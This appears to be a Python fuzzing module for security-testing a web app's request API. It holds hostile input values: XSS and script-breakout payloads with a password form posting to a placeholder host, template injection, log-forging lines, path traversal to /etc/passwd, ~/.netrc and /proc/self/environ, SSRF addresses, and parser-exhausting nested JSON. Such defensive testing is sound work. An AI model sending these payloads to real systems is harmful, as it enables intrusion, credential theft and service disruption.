"""Values that no honest page sends, and ways to put them into honest ones."""

import json
import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any

MARK = "hstl"  # In all that must come out neither as markup nor as a line of the log.
MARKUP = f"<img src=x onerror={MARK}()><form action=//{MARK}.example><input name=password></form>"
LINE = f"x\r\n{MARK}-forged 127.0.0.1 - GET / 200\n"

DEEP: Any = "x"  # JSON's parser takes it; what recurses over the result may not.
for _ in range(400):
    DEEP = [DEEP]

# fmt: off
NUMBERS: dict[str, Any] = {
    "minus one": -1, "zero": 0, "2^31": 2**31, "2^63": 2**63, "400 digits": 10**400, "a half": 0.5,
    "1e308": 1e308, "NaN": float("nan"), "infinity": float("inf"), "minus infinity": float("-inf"),
}
TEXTS: dict[str, Any] = {
    "empty": "", "a word": "x", "a number": "7", "NaN as text": "NaN", "markup": MARKUP,
    "end of script": f"</script><script>{MARK}()</script>", "a link": f"[x](javascript:{MARK}())",
    "template": "{{7*191}}${7*191}{0.__class__}%s%n", "a forged line": LINE, "NUL": "x\x00y",
    "escapes": f"\x1b[2J\x1b[31m{MARK}\x07", "right to left": "\u202egnp.exe",
    "100 KB": "9" * 100_000, "JSON": '{"a": [1, NaN]}', "deep JSON": "[" * 20_000,
    "up": "../../../../canary/kept.txt", "home": "~/.netrc", "passwd": "/etc/passwd",
    "an address": "http://127.0.0.1:1/x", "a file address": "file:///etc/passwd",
    "a share": "\\\\host\\share", "a repo": "someone/model", "other digits": "\u0661\u0662",
}
OTHERS: dict[str, Any] = {
    "null": None, "true": True, "an empty list": [], "an empty object": {}, "deep": DEEP,
    "a list": [1, "x", None], "a list of lists": [[]], "an object": {"value": 1, "x": []},
    "an update": {"__type__": "update", "value": MARKUP, "visible": True},
    "1000 numbers": list(range(1000)), "a lone surrogate": "\ud800",
}
INDICES: dict[str, Any] = NUMBERS | OTHERS | {"-9": -9, "99": 99, "text": "0", "a pair": [0, 1]}
EVENTS: dict[str, Any] = {
    "nothing": None, "empty": {}, "text": "x", "a list": [1], "deep": DEEP,
} | {
    f"index {name}": {"index": value, "value": MARKUP} for name, value in INDICES.items()
}
# Fields of the request around the data.
BODIES: dict[str, dict[str, Any]] = {
    f"{field} {name}": {field: value}
    for field, values in {
        "data": {"null": None, "text": "x", "object": {}},
        "fn_index": {"null": None, "-1": -1, "9999": 9999, "text": "x", "2^70": 2**70, "half": 0.5},
        "session_hash": {"null": None, "empty": "", "up": "../../x", "number": 7, "markup": MARKUP,
                         "line": LINE, "long": "x" * 20_000},
        "trigger_id": {"9999": 9999, "text": "x", "-1": -1}, "event_data": {"markup": MARKUP},
        "event_id": {"up": "../x"}, "batched": {"true": True}, "simple_format": {"true": True},
        "oauth_token": {"markup": MARKUP},
    }.items()
    for name, value in values.items()
}
# Texts in place of a request's JSON.
NO_JSON = {
    "no JSON": "x", "nothing": "", "cut": '{"data": [', "a list": "[]", "deep": "[" * 100_000,
    "a long number": '{"data": [' + "9" * 6000 + '], "fn_index": 1, "session_hash": "x"}',
    "no index": '{"data": [], "data": [1], "session_hash": "x"}', "not UTF-8": '{"data": ["\xff"]}',
}
# fmt: on


def paths(canary: Path, app: Path) -> dict[str, Any]:
    """Names of files that are nobody's business, some there and some to be made."""
    return {
        "a canary": str(canary / "kept.txt"),
        "a new file": str(canary / "X"),
        "up to a canary": f"../../../../../../..{canary}/X",
        "the app": str(app / "app.py"),
        "a folder": str(canary),
        "the root": "/",
        "a device": "/dev/zero",
        "the environment": "/proc/self/environ",
    }


def spoiled(
    value: Any, bad: dict[str, Any], rng: random.Random, number: int
) -> Iterator[tuple[str, Any]]:
    """Copies of a JSON value with one part replaced or gone: what was done, and the copy.

    Half of them are of parts that name a model or a file.
    """
    ways = [way for way in _ways(value) if way]
    names = [(way, name) for way in ways for name in bad if way[-1] in ("model", "path")]
    others = [(way, name) for way in ways for name in bad]
    chosen = rng.sample(names, min(len(names), number // 2))
    chosen += rng.sample(others, min(len(others), number - len(chosen)))
    for way, name in chosen:
        yield f"{'.'.join(map(str, way))} = {name}", _replaced(value, way, bad[name])
    for way in rng.sample(ways, min(len(ways), number // 6)):
        yield f"without {'.'.join(map(str, way))}", _replaced(value, way, None, is_gone=True)


def with_paths(value: Any, paths: dict[str, Any]) -> Iterator[tuple[str, Any]]:
    """Copies with a path in place of the first and of the last model that the value names."""
    ways = [way for way in _ways(value) if way and way[-1] == "model"]
    for way in ways[:1] + ways[1:][-1:]:
        for name, path in paths.items():
            yield f"{'.'.join(map(str, way))} = {name}", _replaced(value, way, path)


def spoiled_text(
    text: str, bad: dict[str, Any], rng: random.Random, number: int
) -> Iterator[tuple[str, str]]:
    """The same for JSON in a text."""
    for name, value in spoiled(json.loads(text), bad, rng, number):
        yield name, json.dumps(value)


def _ways(value: Any, way: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The way to every part of a JSON value, itself included."""
    yield way
    parts: Any = value.items() if isinstance(value, dict) else ()
    for key, part in enumerate(value) if isinstance(value, list) else parts:
        yield from _ways(part, (*way, key))


def _replaced(value: Any, way: tuple[Any, ...], new: Any, *, is_gone: bool = False) -> Any:
    copy = dict(value) if isinstance(value, dict) else list(value)
    if len(way) > 1:
        copy[way[0]] = _replaced(copy[way[0]], way[1:], new, is_gone=is_gone)
    elif is_gone:
        del copy[way[0]]
    else:
        copy[way[0]] = new
    return copy
